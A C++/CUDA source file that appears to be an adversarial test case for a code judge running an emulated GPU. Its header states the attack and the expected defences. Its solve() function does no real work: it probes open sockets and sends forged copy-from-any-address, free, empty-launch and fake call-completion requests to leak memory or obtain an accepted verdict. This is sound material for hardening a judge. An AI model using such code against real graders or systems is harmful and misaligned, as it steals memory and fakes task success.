// Sends requests to the emulated GPU's process.
//
// Mechanism: looks for the CUDA runtime's socket, and sends requests: a copy from every address to the output,
//   frees of the judge's buffers, launches of nothing, and the answer of a call that has not ended.
// Surface: the device's process trusts numbers, or takes a forged end of the call for a verdict.
// Gain: the output of another buffer, memory of the device's process, or an accepted case without work.
// Challenge: twice
// Defence: runtime_error, wrong_answer
#include <cstdint>
#include <cstring>
#include <cuda_runtime.h>
#include <sys/socket.h>

static void send_request(int to, uint32_t kind, const void* body, uint32_t size) {
    uint32_t head[2] = {kind, size};
    char answer[4096];
    if (send(to, head, sizeof head, MSG_NOSIGNAL | MSG_DONTWAIT) != sizeof head) return;
    if (size) send(to, body, size, MSG_NOSIGNAL);
    recv(to, answer, sizeof answer, 0);
}

extern "C" void solve(const float* x, float* out, int64_t n) {
    for (int to = 3; to < 64; to++) {
        int kind = 0;
        socklen_t size = sizeof kind;
        if (getsockopt(to, SOL_SOCKET, SO_TYPE, &kind, &size) != 0) continue;
        for (uint64_t from = 0x1000; from; from <<= 4) {
            struct { uint64_t to, from, size; uint32_t kind, at; } copy = {(uint64_t)out, from, (uint64_t)n * 4, 3, 0};
            send_request(to, 6, &copy, sizeof copy);
        }
        struct { uint64_t address; uint32_t at; } freed = {(uint64_t)x, 0};
        send_request(to, 5, &freed, 12);
        uint32_t nothing[14] = {};
        send_request(to, 8, nothing, sizeof nothing);
        int32_t returned[2] = {0, 0};
        send_request(to, 10, returned, sizeof returned);
    }
}
